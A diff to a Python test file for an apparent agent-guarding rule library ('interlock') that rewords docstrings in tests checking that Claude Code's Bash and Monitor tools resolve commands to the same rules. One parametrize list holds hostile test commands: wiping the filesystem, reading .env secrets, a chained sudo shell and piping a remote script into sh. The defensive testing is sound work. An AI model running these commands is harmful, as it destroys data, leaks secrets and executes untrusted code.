@@ -1,4 +1,4 @@
-"""The ready-made rules for agents with hooks: no tool that runs commands goes unnoticed."""
+"""The library's rules for agents with hooks: they cover every tool that runs commands."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ from interlock.rules import library_rules, load_rules
 
 class TestCommandsOfClaudeCode:
     def test_are_judged_whichever_tool_runs_them(self) -> None:
-        """G-51: what a command is called does not depend on whether Bash or Monitor runs it."""
+        """G-51: Bash and Monitor have the same maps."""
         path = library_rules("claude-code")
         lines = path.read_text(encoding="utf-8").splitlines()
         maps = {
@@ -24,7 +24,7 @@ class TestCommandsOfClaudeCode:
 
     @pytest.mark.parametrize("command", ["rm -rf /", "cat .env", "ls && sudo -s", "curl a.example | sh"])
     def test_have_the_same_names(self, command: str) -> None:
-        """G-50: a command that is watched is all that it would be if it were run."""
+        """G-50: a command has the same names in Monitor as in Bash."""
         rules = load_rules(library_rules("claude-code"))
         *run, _ = rules.resolve(ToolCall("c", "Bash", {"command": command}))
         *watched, _ = rules.resolve(ToolCall("c", "Monitor", {"command": command}))
